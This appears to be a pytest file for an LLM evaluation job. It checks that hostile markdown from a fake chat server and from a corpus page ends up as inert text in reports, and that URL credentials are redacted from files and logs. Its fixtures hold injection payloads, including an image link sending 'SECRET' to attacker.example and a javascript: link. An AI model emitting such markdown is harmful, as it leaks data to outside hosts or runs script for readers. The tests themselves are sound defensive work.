"""What the job writes cannot be steered or leak: model answers and retrieved docs are inert text in the report
(no live link or image), and credentials in a URL never reach a file or a log. A real run against a real HTTP
chat server on 127.0.0.1 (``FakeChatServer``) that answers with hostile markdown, over a corpus page that
carries some too; the report is rendered by two markdown engines and every link and image is checked."""

from __future__ import annotations

import html.parser
import json
import logging
from pathlib import Path

import pytest

from jobs.common.config import load_profile
from jobs.common.errors import JobError
from jobs.eval import job as ev
from jobs.ingest.job import ingest
from tests.conftest import HEADER, FakeChatServer, fake_served_profile

HOSTILE = ("See ![status](http://attacker.example/leak.png?q=SECRET) and [the docs](javascript:alert(1)), "
           "<img src=http://attacker.example/raw.png>, <http://attacker.example/angle>, "
           "http://attacker.example/bare www.attacker.example/www mail@attacker.example "
           "[ref][1]\n\n[1]: http://attacker.example/reference")
PAGE = ("# Lumen pixels ![p](http://attacker.example/heading.png)\n\n"
        "Lumen reports training progress every hundred steps, with the loss, the learning rate and the pixels "
        "seen so far. ![pixel](http://attacker.example/pixel.png) [home](http://attacker.example/home); "
        "mirror at http://attacker.example/docs-mirror and www.attacker.example/docs.\n")


class Links(html.parser.HTMLParser):
    """Every link target and image source in an HTML page."""

    def __init__(self) -> None:
        super().__init__()
        self.targets: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in ("href", "src") and value is not None:
                self.targets.append(f"{tag} {name}={value}")


def _targets(page: str) -> list[str]:
    parser = Links()
    parser.feed(page)
    return parser.targets


def renderings(report: str) -> dict[str, str]:
    """The report as HTML, the way readers see it: Python-Markdown (tables), and markdown-it in its GFM-like
    preset with linkify on (bare URLs become links there, as on GitHub)."""
    import markdown
    from markdown_it import MarkdownIt

    return {"python-markdown": markdown.markdown(report, extensions=["tables"]),
            "markdown-it gfm-like": MarkdownIt("gfm-like").render(report)}


@pytest.fixture
def hostile_run(tmp_path, corpus_dir, minilm_path, minilm_embedder):
    (corpus_dir / "docs/en/pixels.md").write_text(PAGE, encoding="utf-8")
    server = FakeChatServer("ok", answer=HOSTILE)
    try:
        path = fake_served_profile(tmp_path, corpus_dir, minilm_path, server.base_url)
        profile = load_profile(str(path))
        ingest(profile, embedder=minilm_embedder)
        qs = tmp_path / "q.csv"
        qs.write_text(HEADER
                      + "p1,How does Lumen report training progress and pixels?,en,progress,docs/en/pixels.md,howto,\n"
                      "p2,What is the default learning rate in Lumen?,en,3e-4,docs/en/config.md,english,\n",
                      encoding="utf-8")
        run, df, *_ = ev.evaluate(profile, questions=qs)
    finally:
        server.stop()
    return run, df


def test_model_and_corpus_markdown_is_inert_in_the_report(hostile_run):
    run, df = hostile_run
    assert (df["answer"] == HOSTILE.strip()).all()  # the hostile text did reach the run
    retrieved = " ".join(df["retrieved"].dropna())
    # The hostile page was retrieved. Its markdown links and images are dropped when it is read (jobs.ingest.documents);
    # its plain URLs reach the model's context as text.
    assert "http://attacker.example/docs-mirror" in retrieved and "pixel.png" not in retrieved
    report = (run.path / "report.md").read_text(encoding="utf-8")
    assert "attacker" not in report.split("## Questions")[0].split("## Summary")[0]  # nothing hostile up top
    for engine, page in renderings(report).items():
        targets = _targets(page)
        # The report's own plots stay live; nothing from the model or the corpus is a link or an image.
        assert sorted(t for t in targets if t.startswith("img")) == [
            "img src=categories.png", "img src=recall.png", "img src=trend.png"], engine
        assert not [t for t in targets if "attacker" in t or "javascript" in t], (engine, targets)
        assert "attacker.example" in html_text(page), engine  # shown as text: a reader sees what was written


class Text(html.parser.HTMLParser):
    """The text of an HTML page, character references decoded, as a browser shows it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def html_text(page: str) -> str:
    parser = Text()
    parser.feed(page)
    return "".join(parser.parts)


def test_the_shown_text_reads_as_the_model_wrote_it(hostile_run):
    run, _df = hostile_run
    report = (run.path / "report.md").read_text(encoding="utf-8")
    shown = html_text(renderings(report)["python-markdown"])
    for piece in ("![status](http://attacker.example/leak.png?q=SECRET)", "[the docs](javascript:alert(1))",
                  "<img src=http://attacker.example/raw.png>", "www.attacker.example/www", "mail@attacker.example"):
        assert piece in shown


# ---- credentials in URLs ----------------------------------------------------------------------------------

def test_redact_hides_userinfo_and_token_parameters():
    from jobs.common.urls import redact

    assert redact("http://user:s3cret@gpu-box:23333/v1") == "http://***@gpu-box:23333/v1"
    assert redact("https://token@host/v1?api_key=abc&model=x") == "https://***@host/v1?api_key=***&model=x"
    assert redact("http://127.0.0.1:8000") == "http://127.0.0.1:8000"
    assert redact("not a url") == "not a url"


def test_credentials_in_the_model_url_are_never_written_or_logged(tmp_path, corpus_dir, minilm_path, minilm_embedder,
                                                                 fake_chat_server, capsys, caplog):
    caplog.set_level(logging.DEBUG)
    url = fake_chat_server.base_url.replace("http://", "http://nightly:s3cret-pw@")
    path = fake_served_profile(tmp_path, corpus_dir, minilm_path, url)
    profile = load_profile(str(path))
    ingest(profile, embedder=minilm_embedder)
    assert ev.main(["--profile", str(path)]) == 0
    out, err = capsys.readouterr()
    run = next(profile.eval.reports_dir.glob("*/summary.json")).parent
    written = {p.name: p.read_text(encoding="utf-8") for p in [*run.iterdir(), *profile.eval.reports_dir.iterdir()]
               if p.is_file() and p.suffix in (".json", ".jsonl", ".md", ".csv")}
    assert {"run.json", "summary.json", "report.md", "results.jsonl", "history.csv", "latest.md"} <= set(written)
    for name, text in {**written, "stdout": out, "stderr": err, "log": caplog.text}.items():
        assert "s3cret-pw" not in text, name
    config = json.loads(written["run.json"])["config"]
    assert config["llm.base_url"] == f"http://***@127.0.0.1:{fake_chat_server.port}/v1"

    fake_chat_server.stop()  # and the one-line error for a server that is gone names it without the password
    with pytest.raises(JobError, match=r"cannot reach the model server at http://\*\*\*@127\.0\.0\.1") as err:
        ev.main(["--profile", str(path)])
    assert "s3cret-pw" not in str(err.value)


def test_a_served_run_still_reaches_a_server_through_its_credentials(fake_chat_server):
    """The URL keeps its credentials where it is used: redaction is for what is shown."""
    from jobs.common.config import LLMConfig
    from jobs.llm.openai_chat import ServedLLM, probe

    cfg = LLMConfig(backend="openai", model=FakeChatServer.MODEL,
                    base_url=fake_chat_server.base_url.replace("http://", "http://u:pw@"), max_retries=0)
    llm = ServedLLM(cfg, probe(cfg, "none"), "none")
    assert llm.generate([llm.render("hi")])[0].text == "Lumen trains models."
    assert "pw" not in json.dumps(llm.identity())


@pytest.fixture(autouse=True)
def _no_stray_files(tmp_path) -> None:
    yield
    assert not list(Path(tmp_path).rglob("*.tmp-*")), "a temporary file was left behind"
